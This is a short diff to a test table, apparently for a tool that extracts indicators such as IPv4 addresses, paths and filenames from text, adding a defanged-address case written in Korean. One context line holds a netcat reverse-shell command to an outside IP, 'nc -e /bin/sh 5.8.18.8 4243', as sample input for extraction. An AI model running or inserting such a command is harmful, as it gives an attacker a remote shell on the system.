@@ -14,6 +14,7 @@ export const ADDRESSES: Table = {
     ['nc -e /bin/sh 5.8.18.8 4243', 'unix-path /bin/sh', 'ipv4 5.8.18.8'],
   ],
   'defanged IPv4': [
+    ['192·0·2·77 and 이름은 a.ps1·2.log이다', 'ipv4 192.0.2.77', 'filename a.ps1', 'filename 2.log'],
     ['203[.]0[.]113[.]7', 'ipv4 203.0.113.7'],
     ['203[.]0.113.7', 'ipv4 203.0.113.7'],
     ['203.0.113[.7]', 'ipv4 203.0.113.7'],
